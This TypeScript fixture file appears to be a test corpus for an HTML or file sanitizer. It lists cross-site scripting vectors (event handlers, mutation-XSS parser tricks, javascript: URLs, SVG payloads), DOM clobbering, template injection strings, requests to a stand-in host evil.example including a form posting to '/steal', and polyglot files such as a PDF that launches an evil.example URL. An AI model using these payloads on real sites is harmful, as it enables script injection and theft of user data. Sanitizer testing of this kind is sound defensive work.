// Markup and texts that try to run, load, navigate or send something, each in another way. Whoever shows them as they are hears
// a dialog, sees a request to evil.example, or finds itself elsewhere.

const evil = "http://evil.example";

export const vectors: readonly string[] = [
  // Plain scripts, and elements that run when they load, fail, open or end.
  "<script>alert(1)</script><script src=http://evil.example/a.js></script>",
  "<img src=x onerror=alert(1)><img/src='x'/onerror='alert`1`'>",
  "<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>",
  "<video><source onerror=alert(1)></video><audio src onerror=alert(1)></audio><body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)>",
  "<style>@keyframes a{}</style><p style='animation:a 1s' onanimationstart=alert(1)>x</p>",
  // What one parser reads otherwise than the other.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing><xmp><p title="</xmp><svg onload=alert(1)>"></xmp>',
  "<!--><img src=x onerror=alert(1)>--><![CDATA[><img src=x onerror=alert(1)>]]><?x <img src=x onerror=alert(1)>?>",
  "<template><script>alert(1)</script></template><div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
  '<a href="x" title=\'"><img src=x onerror=alert(1)>\'>x</a><p title="\'>`<img src=x onerror=alert(1)>">x</p>',
  // SVG and MathML.
  "<svg onload=alert(1)><script>alert(1)</script><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg><math href=javascript:alert(1)>x</math>',
  // Addresses that run, in more ways than one to write them.
  '<a href=javascript:alert(1)>x</a><a href=" &#1;java\tscript&colon;alert(1)">x</a><a href=vbscript:x>x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a><iframe src="javascript:alert(1)"></iframe><object data="javascript:alert(1)"></object>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form><isindex action=javascript:alert(1)>',
  // What loads when it is shown.
  `<p style="background:url(${evil}/a);list-style:url('${evil}/b');content:url(${evil}/c)">x</p><style>@import '${evil}/s.css';*{background:url(${evil}/d)}</style>`,
  `<img srcset="${evil}/e 1x, ${evil}/f 2x"><picture><source srcset="${evil}/g"><img src="${evil}/h"></picture><img src="//evil.example/i" lowsrc="${evil}/j" dynsrc="${evil}/k">`,
  `<link rel=stylesheet href="${evil}/l.css"><link rel=preload as=image href="${evil}/m"><link rel=dns-prefetch href="//evil.example"><link rel=prerender href="${evil}/n">`,
  `<table background="${evil}/o"><tr><td background="${evil}/p">x</td></tr></table><video poster="${evil}/q"></video><embed src="${evil}/r"><object data="${evil}/s"></object>`,
  `<svg><image href="${evil}/t"/><feImage href="${evil}/u"/><style>*{fill:url(${evil}/v#x)}</style></svg><p style="background:\\75rl(${evil}/w);background-image:image-set('${evil}/x' 1x)">x</p>`,
  // What leads away, and what turns the page's own names and addresses round.
  `<meta http-equiv=refresh content="0;url=${evil}/"><meta http-equiv="Content-Security-Policy" content="script-src *"><base href="${evil}/"><base target=_top>`,
  `<form action="${evil}/steal" id=x><input name=csrf></form><button form=x>x</button><a href="${evil}/" ping="${evil}/ping" target=_top>x</a>`,
  "<form id=main name=body><input name=attributes><input name=innerHTML id=list></form><a id=side name=side href=x>x</a><img name=querySelector><img name=cookie>",
  // Texts: Markdown, autolinks, templates, ends of elements and attributes that a page might stand in.
  "[x](javascript:alert(1)) ![x](http://evil.example/y.png) <javascript:alert(1)> https://x.example/\"onmouseover=alert(1)// #{alert(1)} <%= alert(1) %> {{constructor.constructor('alert(1)')()}}",
  "</textarea></title></style></script></details></iframe></option></select><img src=x onerror=alert(1)> \" autofocus onfocus=alert(1) x=\" ' onmouseover='alert(1) \u202e\u2028\u2029",
];

/** Files that a browser might run if it opened them: their type, name and contents. */
export const files: readonly { contentType: string; filename: string; content: string }[] = [
  { contentType: "text/html", filename: "a.html", content: "<script>alert(1)</script>" },
  {
    contentType: "image/svg+xml",
    filename: "b.svg",
    content:
      "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><image href='http://evil.example/z'/></svg>",
  },
  {
    contentType: "application/xhtml+xml",
    filename: "c.xhtml",
    content: "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
  },
  {
    contentType: "text/xml",
    filename: "d.xml",
    content:
      "<?xml-stylesheet type='text/xsl' href='http://evil.example/s.xsl'?><x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>alert(1)</h:script></x>",
  },
  { contentType: "image/png", filename: "e.png", content: "<html><script>alert(1)</script></html>" },
  { contentType: "application/pdf", filename: "f.pdf", content: "<html><script>alert(1)</script></html>" },
  {
    contentType: "application/pdf",
    filename: "g.pdf",
    content:
      "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1);app.launchURL('http://evil.example/pdf'))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/URI/URI(http://evil.example/open)>>>>>>endobj\ntrailer<</Root 1 0 R>>\n",
  },
  { contentType: "text/javascript", filename: "h.js", content: "alert(1)" },
  {
    contentType: "multipart/related",
    filename: "i.mhtml",
    content: "Content-Type: text/html\r\n\r\n<script>alert(1)</script>",
  },
  { contentType: "image/gif", filename: "j.html", content: "GIF89a<script>alert(1)</script>" },
];
